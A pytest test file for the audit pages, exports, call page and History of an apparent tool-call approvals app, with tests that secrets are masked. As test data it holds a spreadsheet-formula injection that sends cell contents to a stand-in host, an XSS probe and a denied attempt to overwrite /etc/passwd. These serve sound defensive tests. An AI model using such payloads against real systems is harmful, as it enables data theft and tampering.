"""The auditor's side: the Audit page (filters, search, pages), its streamed CSV and JSON Lines exports, the
call page, History for every role, and secrets masked in every one of them (issue 4, point 6)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection, connections
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from approvals.models import AuditEvent, ToolCall
from approvals.services import audit_search
from approvals.services.audit import audit_verify
from approvals.services.calls import call_claim, call_decide, call_report_result
from approvals.services.teams import member_add, user_get_or_create

from .conftest import Issued

pytestmark = pytest.mark.django_db

AUDIT = reverse("approvals:audit")
EXPORT = reverse("approvals:audit_export")
HISTORY = reverse("approvals:history")
SECRET = "sgo_0badc0de_Zt6qk2Y3vQ9pL0mN8xR4sW7uE1iO5aD3"
SECRET_TAIL = "Zt6qk2Y3vQ9pL0mN8xR4sW7uE1iO5aD3"
DB_PASSWORD = "s3cr3t-Pa55"
SHOWN_SECRET = "sgo_0badc0de…[masked]"


def logged_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def call_detail_url(call: ToolCall) -> str:
    return reverse("approvals:call_detail", args=[str(call.pk)])


@pytest.fixture
def auditor(team_a: Any) -> Any:
    """Reads team alpha's record: History, Audit, exports; decides and changes nothing."""
    user = user_get_or_create(email="audrey@example.com", password="correct horse battery staple")
    member_add(team=team_a, user=user, role="auditor")
    return user


@dataclass
class Calls:
    read: ToolCall  # allowed by the reviewer, run and completed
    write: ToolCall  # denied by the reviewer
    deploy: ToolCall  # carries secrets; denied by the admin
    held: ToolCall  # still pending
    foreign: ToolCall  # team bravo's


@pytest.fixture
def calls(
    admin: Any, reviewer: Any, member_token: Issued, outsider_token: Issued, submit: Callable[..., Any]
) -> Calls:
    read = submit(member_token.token, arguments={"path": "/srv/project/README.md"}).call
    call_decide(call_id=str(read.pk), reviewer=reviewer, allow=True, reason="fine")
    call_claim(token=member_token.token, call_id=str(read.pk))
    read = call_report_result(
        token=member_token.token,
        call_id=str(read.pk),
        is_error=False,
        summary='# Project\nStarted in café Zürich; "quoted" text',
        duration_ms=12,
    )
    write = submit(
        member_token.token, tool="write_file", arguments={"path": "/etc/passwd", "content": "root::0:0"}
    ).call
    write = call_decide(call_id=str(write.pk), reviewer=reviewer, allow=False, reason="not the system files")
    deploy = submit(
        member_token.token,
        server="ops",
        tool="deploy",
        arguments={
            "service": "billing",
            "env": f"SIGNOFF_TOKEN={SECRET}",
            "database": f"postgres://app:{DB_PASSWORD}@db:5432/billing",
            "api_key": "plain-looking-value",
        },
    ).call
    deploy = call_decide(call_id=str(deploy.pk), reviewer=admin, allow=False, reason=f"never paste {SECRET}")
    held = submit(member_token.token, tool="list_dir", arguments={"path": "/srv/held"}).call
    foreign = submit(outsider_token.token, arguments={"path": "/srv/foreign"}).call
    return Calls(read, write, deploy, held, foreign)


def call_ids(response: Any) -> set[str]:
    """The calls listed on an Audit page (its rows carry ``data-call``)."""
    assert response.status_code == 200, response.content.decode()[:2000]
    return {str(row.call.pk) for row in response.context["page"].rows}


def ids(*calls: ToolCall) -> set[str]:
    return {str(call.pk) for call in calls}


# --- the page -------------------------------------------------------------------------------------------
def test_the_audit_page_lists_the_teams_calls_newest_first(auditor: Any, calls: Calls) -> None:
    response = logged_in(auditor).get(AUDIT)
    assert call_ids(response) == ids(calls.read, calls.write, calls.deploy, calls.held)
    times = [row.call.created_at for row in response.context["page"].rows]
    assert times == sorted(times, reverse=True)
    html = response.content.decode()
    assert 'aria-current="page">Audit</a>' in html
    assert "/srv/foreign" not in html
    assert reverse("approvals:call_detail", args=[str(calls.read.pk)]) in html


def test_the_events_tab_lists_the_teams_audit_events_with_their_place_in_the_chain(
    auditor: Any, calls: Calls
) -> None:
    response = logged_in(auditor).get(AUDIT, {"what": "events"})
    assert response.status_code == 200
    events = [row.event for row in response.context["page"].rows]
    team_events = AuditEvent.objects.filter(team_id=calls.read.team_id)
    assert {event.pk for event in events} == set(team_events.values_list("pk", flat=True))
    assert [event.seq for event in events] == sorted((event.seq for event in events), reverse=True)
    html = response.content.decode()
    assert events[0].hash[:12] in html
    assert "member.added" in html and "token.issued" in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"tool": "write_file"}, ["write"]),
        ({"server": "ops"}, ["deploy"]),
        ({"outcome": "denied"}, ["write", "deploy"]),
        ({"outcome": "completed"}, ["read"]),
        ({"outcome": "pending"}, ["held"]),
        ({"user": "max@example.com"}, ["read", "write", "deploy", "held"]),  # the requester
        ({"user": "RITA@example.com"}, ["read", "write"]),  # the decider, any case
        ({"user": "ada@example.com"}, ["deploy"]),
        ({"user": "nobody@example.com"}, []),
        ({"kind": "call.completed"}, ["read"]),
        ({"kind": "call.denied"}, ["write", "deploy"]),
        ({"kind": "call."}, ["read", "write", "deploy", "held"]),
        ({"outcome": "denied", "server": "files"}, ["write"]),
    ],
)
def test_each_filter(auditor: Any, calls: Calls, query: dict[str, str], expected: list[str]) -> None:
    response = logged_in(auditor).get(AUDIT, query)
    assert call_ids(response) == ids(*(getattr(calls, name) for name in expected))
    assert response.context["filtered"]


def test_the_token_filter(auditor: Any, calls: Calls, member: Any, team_a: Any) -> None:
    from approvals.services.tokens import token_issue

    other, _ = token_issue(team=team_a, user=member, name="desktop")
    client = logged_in(auditor)
    assert call_ids(client.get(AUDIT, {"token": calls.read.token.prefix})) == ids(
        calls.read, calls.write, calls.deploy, calls.held
    )
    assert call_ids(client.get(AUDIT, {"token": other.prefix})) == set()
    events = client.get(AUDIT, {"what": "events", "token": other.prefix}).context["page"].rows
    assert [row.event.kind for row in events] == ["token.issued"]  # found by the prefix the event names
    assert f'value="{other.prefix}"' in client.get(AUDIT).content.decode()  # offered in the select


def test_the_time_range(auditor: Any, calls: Calls) -> None:
    day = timezone.now().replace(year=2024, month=3, day=10, hour=9, minute=30, second=15, microsecond=0)
    ToolCall.objects.filter(pk=calls.write.pk).update(created_at=day)
    ToolCall.objects.filter(pk=calls.read.pk).update(created_at=day - timedelta(days=1))
    client = logged_in(auditor)
    assert call_ids(client.get(AUDIT, {"since": "2024-03-10", "until": "2024-03-10"})) == ids(calls.write)
    assert call_ids(client.get(AUDIT, {"until": "2024-03-10T09:30"})) == ids(calls.read, calls.write)
    assert call_ids(client.get(AUDIT, {"until": "2024-03-10T09:29"})) == ids(calls.read)
    assert call_ids(client.get(AUDIT, {"since": "2024-03-10T09:30:16"})) == ids(calls.deploy, calls.held)
    assert call_ids(client.get(AUDIT, {"since": "2024-03-10T10:30:15+01:00", "until": "2024-03-11"})) == ids(
        calls.write
    )
    # Events: all written just now.
    assert client.get(AUDIT, {"what": "events", "until": "2024-03-11"}).context["page"].rows == []


# --- full-text search -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("/etc/passwd", ["write"]),
        ("ETC/PASS", ["write"]),  # case-insensitive
        ("README", ["read"]),  # an argument
        ("not the system", ["write"]),  # a reason
        ("café Zürich", ["read"]),  # a result summary, non-ASCII
        ('"quoted"', ["read"]),
        ("billing", ["deploy"]),
        ('"path": "/srv', ["read", "held"]),  # across a key and its value, as JSON is written
        ("no such text anywhere", []),
    ],
)
def test_search_finds_text_in_arguments_reasons_and_results(
    auditor: Any, calls: Calls, q: str, expected: list[str]
) -> None:
    response = logged_in(auditor).get(AUDIT, {"q": q})
    assert call_ids(response) == ids(*(getattr(calls, name) for name in expected))


def test_search_finds_non_ascii_arguments(
    auditor: Any, member_token: Issued, submit: Callable[..., Any]
) -> None:
    call = submit(member_token.token, arguments={"path": "/srv/Überweisung-日本.txt"}).call
    client = logged_in(auditor)
    # Non-ASCII letters match in their own case (SQLite folds the case of ASCII letters only).
    for q in ("Überweisung-日本", "日本.txt", "/srv/Über"):
        assert call_ids(client.get(AUDIT, {"q": q})) == ids(call), q


def test_search_never_finds_a_row_by_the_secret_it_masks(auditor: Any, calls: Calls) -> None:
    """Otherwise a search would be an oracle: guess the masked token one character at a time."""
    client = logged_in(auditor)
    for q in (SECRET, SECRET_TAIL[:6], DB_PASSWORD, "plain-looking"):
        assert call_ids(client.get(AUDIT, {"q": q})) == set(), q
    assert call_ids(client.get(AUDIT, {"q": "sgo_0badc0de"})) == ids(calls.deploy)  # the visible prefix
    assert call_ids(client.get(AUDIT, {"q": "postgres://app:"})) == ids(calls.deploy)


def test_search_in_events(auditor: Any, calls: Calls) -> None:
    client = logged_in(auditor)
    rows = client.get(AUDIT, {"what": "events", "q": "not the system"}).context["page"].rows
    assert [(row.event.kind, row.event.call_id) for row in rows] == [("call.denied", calls.write.pk)]
    assert client.get(AUDIT, {"what": "events", "q": SECRET_TAIL[:8]}).context["page"].rows == []


def test_events_filters(auditor: Any, calls: Calls) -> None:
    client = logged_in(auditor)

    def kinds(**query: str) -> list[str]:
        return [row.event.kind for row in client.get(AUDIT, {"what": "events", **query}).context["page"].rows]

    assert kinds(tool="write_file") == ["call.denied", "call.pending"]
    assert kinds(server="ops", kind="call.denied") == ["call.denied"]
    assert kinds(outcome="completed") == ["call.completed", "call.started", "call.allowed", "call.pending"]
    assert kinds(user="rita@example.com") == ["call.denied", "call.allowed"]
    assert set(kinds(kind="member.")) == {"member.added"}


# --- pages ----------------------------------------------------------------------------------------------
def test_pages(auditor: Any, member_token: Issued, submit: Callable[..., Any]) -> None:
    made = [submit(member_token.token, arguments={"path": f"/srv/n{index}"}).call for index in range(57)]
    client = logged_in(auditor)
    first = client.get(AUDIT).context["page"]
    second = client.get(AUDIT, {"page": "2"}).context["page"]
    assert (len(first.rows), len(second.rows), first.total, first.num_pages) == (50, 7, 57, 2)
    assert first.has_next and not second.has_next and second.has_previous
    assert {str(row.call.pk) for row in first.rows + second.rows} == ids(*made)
    assert client.get(AUDIT, {"page": "nonsense"}).context["page"].number == 1
    # With a search text the pages are found by scanning (no total), and agree with the plain ones.
    searched = client.get(AUDIT, {"q": "/srv/n", "page": "2"}).context["page"]
    assert searched.total is None and searched.number == 2 and not searched.has_next
    assert [row.call.pk for row in searched.rows] == [row.call.pk for row in second.rows]
    html = client.get(AUDIT, {"q": "/srv/n"}).content.decode()
    assert "page=2" in html and "q=%2Fsrv%2Fn" in html  # the pager keeps the filters


# --- bad filters ----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"since": "yesterday"}, "Enter a date"),
        ({"until": "2024-13-45"}, "Enter a date"),
        ({"until": "9999-12-31"}, "Enter a date"),  # one day past the end of time
        ({"since": "2024-03-11", "until": "2024-03-10"}, "must be before"),
        ({"token": "not-a-prefix"}, "Choose a token"),
        ({"outcome": "exploded"}, "Select a valid choice"),
        ({"kind": "<script>alert(1)</script>"}, "An event kind"),
        ({"what": "everything"}, "Select a valid choice"),
        ({"format": "xlsx"}, "Select a valid choice"),
        ({"q": "x" * 201}, "at most 200"),
        ({"server": "s" * 129}, "at most 128"),
    ],
)
def test_bad_filters_are_form_errors(auditor: Any, calls: Calls, query: dict[str, str], message: str) -> None:
    client = logged_in(auditor)
    before = AuditEvent.objects.count()
    for url in (AUDIT, EXPORT):
        response = client.get(url, query)
        assert response.status_code == 400
        html = response.content.decode()
        assert message in html
        assert "<script>alert(1)" not in html
    assert AuditEvent.objects.count() == before  # a refused export is not an export


# --- exports --------------------------------------------------------------------------------------------
def read_stream(response: Any) -> tuple[str, int]:
    assert response.streaming
    pieces = list(response.streaming_content)
    return b"".join(pieces).decode("utf-8"), len(pieces)


def test_the_csv_export_streams_the_filtered_calls(auditor: Any, calls: Calls) -> None:
    response = logged_in(auditor).get(EXPORT, {"outcome": "denied", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.now().date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="signoff-calls-alpha-{today}.csv"'
    assert response["Cache-Control"] == "no-store"
    text, _ = read_stream(response)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == audit_search.CALL_COLUMNS
    assert [row["id"] for row in rows] == [str(calls.deploy.pk), str(calls.write.pk)]
    write = rows[1]
    assert (write["tool"], write["state"], write["requester"], write["decided_by"]) == (
        "write_file",
        "denied",
        "max@example.com",
        "rita@example.com",
    )
    assert json.loads(write["arguments"]) == {"path": "/etc/passwd", "content": "root::0:0"}
    assert write["reason"] == "denied by a reviewer: not the system files" and write["masked"] == "false"
    assert write["token_prefix"] == calls.write.token.prefix
    deploy = rows[0]
    assert deploy["masked"] == "true"
    assert json.loads(deploy["arguments"])["api_key"] == "[masked]"


def test_the_jsonl_export_of_events_parses_back_and_matches_the_filters(auditor: Any, calls: Calls) -> None:
    response = logged_in(auditor).get(EXPORT, {"what": "events", "format": "jsonl", "tool": "write_file"})
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"].endswith(
        f'signoff-events-alpha-{timezone.now().date().isoformat()}.jsonl"'
    )
    text, _ = read_stream(response)
    records = [json.loads(line) for line in text.splitlines()]
    stored = {event.seq: event for event in AuditEvent.objects.filter(call_id=calls.write.pk)}
    assert [record["seq"] for record in records] == sorted(stored, reverse=True)
    for record in records:
        event = stored[record["seq"]]
        assert tuple(record) == audit_search.EVENT_COLUMNS
        assert (record["kind"], record["hash"], record["prev_hash"]) == (
            event.kind,
            event.hash,
            event.prev_hash,
        )
        assert record["call_id"] == str(calls.write.pk) and record["tool"] == "write_file"
        assert record["data"] == event.data and record["masked"] is False
    assert records[0]["actor"] == "rita@example.com"


def test_the_export_with_a_search_text_matches_the_page(auditor: Any, calls: Calls) -> None:
    client = logged_in(auditor)
    text, _ = read_stream(client.get(EXPORT, {"q": "/srv", "format": "jsonl"}))
    exported = {json.loads(line)["id"] for line in text.splitlines()}
    assert exported == call_ids(client.get(AUDIT, {"q": "/srv"})) == ids(calls.read, calls.held)
    text, _ = read_stream(client.get(EXPORT, {"q": SECRET_TAIL[:6], "format": "jsonl"}))
    assert text == ""


def test_an_export_is_audited_with_its_filters_and_format(auditor: Any, calls: Calls) -> None:
    client = logged_in(auditor)
    response = client.get(EXPORT, {"what": "events", "format": "csv", "kind": "call.", "q": SECRET})
    read_stream(response)
    event = AuditEvent.objects.order_by("-seq").first()
    assert event is not None and event.kind == "audit.exported"
    assert event.actor_id == auditor.pk and event.team_id == calls.read.team_id
    assert event.data["what"] == "events" and event.data["format"] == "csv"
    assert event.data["filters"] == {"kind": "call.", "q": SHOWN_SECRET}  # no secret in the log, ever
    assert event.data["actor"]["email"] == "audrey@example.com"
    # And it shows on the Audit page's events, filterable like any other.
    rows = client.get(AUDIT, {"what": "events", "kind": "audit.exported"}).context["page"].rows
    assert [row.event.pk for row in rows] == [event.pk]


def test_the_export_is_sent_in_pieces_read_chunk_by_chunk(
    auditor: Any, member_token: Issued, submit: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    for index in range(30):
        submit(member_token.token, arguments={"path": f"/srv/many/{index}", "padding": "x" * 300})
    monkeypatch.setattr(audit_search, "_EXPORT_FLUSH_BYTES", 1024)
    seen: list[int] = []
    real_iterator = audit_search.QuerySet.iterator

    def iterator(self: Any, chunk_size: int | None = None) -> Any:
        seen.append(chunk_size or 0)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(audit_search.QuerySet, "iterator", iterator)
    with CaptureQueriesContext(connection) as queries:
        response = logged_in(auditor).get(EXPORT, {"format": "csv"})
    # No call is read before the response is streamed; then they are read through a chunked iterator.
    assert not any("approvals_toolcall" in query["sql"] for query in queries.captured_queries)
    text, pieces = read_stream(response)
    assert seen == [audit_search.EXPORT_CHUNK_ROWS]
    assert pieces > 5
    assert len(list(csv.DictReader(io.StringIO(text)))) == 30


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(
    auditor: Any, reviewer: Any, member_token: Issued, submit: Callable[..., Any]
) -> None:
    tool = '=HYPERLINK("http://evil.example/?x="&A1)'  # a tool's name comes from the bridge's upstream
    call = submit(member_token.token, tool=tool, arguments={"path": "/srv/x"}).call
    call_decide(call_id=str(call.pk), reviewer=reviewer, allow=False, reason="@SUM(1+1)")
    text, _ = read_stream(logged_in(auditor).get(EXPORT, {"q": "/srv/x"}))
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["tool"] == "'" + tool
    assert row["reason"] == "denied by a reviewer: @SUM(1+1)"  # not at the start: harmless
    jsonl, _ = read_stream(logged_in(auditor).get(EXPORT, {"q": "/srv/x", "format": "jsonl"}))
    assert json.loads(jsonl)["tool"] == tool  # JSON Lines carry the value as it is


@pytest.mark.django_db(transaction=True)
async def test_under_asgi_the_export_streams_from_an_async_iterator(
    async_client: Any, auditor: Any, calls: Calls, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a plain iterator, Django under ASGI (Daphne) would read it whole into a list first."""
    from asgiref.sync import sync_to_async

    # The request's own thread closes its connection when the response ends (on PostgreSQL it would
    # otherwise be kept for reuse, and the test database could not be dropped).
    monkeypatch.setitem(connection.settings_dict, "CONN_MAX_AGE", 0)
    try:
        await sync_to_async(async_client.force_login)(auditor)
        response = await async_client.get(EXPORT, {"format": "jsonl"})
        assert response.status_code == 200 and response.is_async
        pieces = [piece async for piece in response.streaming_content]
    finally:
        await sync_to_async(connections.close_all)()
    records = [json.loads(line) for line in b"".join(pieces).decode().splitlines()]
    assert {record["id"] for record in records} == ids(calls.read, calls.write, calls.deploy, calls.held)


# --- secrets are masked everywhere they leave -----------------------------------------------------------
def assert_masked(text: str) -> None:
    assert SECRET_TAIL not in text and SECRET not in text
    assert DB_PASSWORD not in text
    assert "plain-looking-value" not in text
    assert SHOWN_SECRET in text


def test_secrets_are_masked_on_every_page_and_in_every_export(
    admin: Any, auditor: Any, member: Any, calls: Calls
) -> None:
    client = logged_in(auditor)
    outputs = {
        "audit page": client.get(AUDIT).content.decode(),
        "audit events": client.get(AUDIT, {"what": "events"}).content.decode(),
        "call page": client.get(call_detail_url(calls.deploy)).content.decode(),
        "history (auditor)": client.get(HISTORY).content.decode(),
        "history (member)": logged_in(member).get(HISTORY).content.decode(),
        "history (admin)": logged_in(admin).get(HISTORY).content.decode(),
    }
    for what in ("calls", "events"):
        for fmt in ("csv", "jsonl"):
            outputs[f"{what} {fmt}"] = read_stream(client.get(EXPORT, {"what": what, "format": fmt}))[0]
    for name, text in outputs.items():
        if name.startswith("events") or name == "audit events":
            # Events name the reason (with the token) but never the arguments.
            assert SECRET_TAIL not in text and SHOWN_SECRET in text, name
        else:
            assert_masked(text)
    assert "postgres://app:[masked]@db:5432/billing" in outputs["call page"]
    # Nothing stored changed: the arguments are as the bridge sent them, and the chain is whole.
    stored = ToolCall.objects.get(pk=calls.deploy.pk)
    assert stored.arguments["env"] == f"SIGNOFF_TOKEN={SECRET}"
    assert SECRET in stored.reason
    assert audit_verify().intact


# --- the call page --------------------------------------------------------------------------------------
def test_the_call_page_shows_arguments_decision_times_rule_result_and_events(
    auditor: Any, calls: Calls, admin: Any, member_token: Issued, submit: Callable[..., Any]
) -> None:
    from approvals.services import rules as rule_services

    response = logged_in(auditor).get(call_detail_url(calls.read))
    assert response.status_code == 200
    html = response.content.decode()
    assert "/srv/project/README.md" in html and "rita@example.com" in html and "max@example.com" in html
    assert "Completed" in html and "12 ms" in html and "café Zürich" in html
    assert calls.read.arguments_hash in html
    events = list(AuditEvent.objects.filter(call_id=calls.read.pk).order_by("seq"))
    assert [row.event.pk for row in response.context["events"]] == [event.pk for event in events]
    for event in events:
        assert event.hash in html and event.prev_hash in html and f">{event.seq}<" in html

    rule = rule_services.rule_create(
        team=calls.read.team, by=admin, effect="allow", server="files", tool="stat"
    )
    by_rule = submit(member_token.token, tool="stat", arguments={"path": "/srv"}).call
    assert by_rule.rule_id == rule.pk
    html = logged_in(auditor).get(call_detail_url(by_rule)).content.decode()
    assert reverse("approvals:rule_detail", args=[rule.pk]) in html


def test_the_call_page_refuses_other_teams_and_unknown_calls(
    auditor: Any, member: Any, outsider: Any, calls: Calls, team_a: Any
) -> None:
    assert logged_in(outsider).get(call_detail_url(calls.read)).status_code == 403
    assert logged_in(auditor).get(call_detail_url(calls.foreign)).status_code == 403
    assert logged_in(outsider).get(call_detail_url(calls.foreign)).status_code == 200
    unknown = reverse("approvals:call_detail", args=["5f0c6d1e-3b7a-4c2d-9e8f-0a1b2c3d4e5f"])
    assert logged_in(auditor).get(unknown).status_code == 404
    assert logged_in(auditor).get(reverse("approvals:call_detail", args=["not-a-uuid"])).status_code == 404
    # A member sees their own calls' pages, not a teammate's.
    other = user_get_or_create(email="mia@example.com", password="correct horse battery staple")
    member_add(team=team_a, user=other, role="member")
    assert logged_in(member).get(call_detail_url(calls.read)).status_code == 200
    assert logged_in(other).get(call_detail_url(calls.read)).status_code == 403


# --- History, by role -----------------------------------------------------------------------------------
def test_history_by_role(
    admin: Any, reviewer: Any, member: Any, auditor: Any, team_a: Any, calls: Calls
) -> None:
    decided = ids(calls.read, calls.write, calls.deploy)
    for user in (admin, reviewer, auditor):
        response = logged_in(user).get(HISTORY)
        assert {str(row.call.pk) for row in response.context["rows"]} == decided
        assert not response.context["own_only"]
    response = logged_in(member).get(HISTORY)
    assert {str(row.call.pk) for row in response.context["rows"]} == decided  # all made with their token
    assert response.context["own_only"]
    other = user_get_or_create(email="mia@example.com", password="correct horse battery staple")
    member_add(team=team_a, user=other, role="member")
    response = logged_in(other).get(HISTORY)
    assert response.status_code == 200 and response.context["rows"] == []
    assert "/srv/project" not in response.content.decode()


def test_the_navigation_shows_history_to_all_and_audit_to_admins_and_auditors(
    admin: Any, reviewer: Any, member: Any, auditor: Any
) -> None:
    audit_link = f'href="{AUDIT}"'
    history_link = f'href="{HISTORY}"'
    for user, sees_audit in ((admin, True), (auditor, True), (reviewer, False), (member, False)):
        html = logged_in(user).get(HISTORY).content.decode()
        assert history_link in html
        assert (audit_link in html) is sees_audit, user.email


def test_auditors_never_see_a_write_action(auditor: Any, calls: Calls) -> None:
    client = logged_in(auditor)
    for url in (AUDIT, HISTORY, call_detail_url(calls.held), f"{AUDIT}?what=events"):
        page = client.get(url).content.decode().split("<main", 1)[1]  # the header has the logout form
        assert 'method="post"' not in page.lower(), url
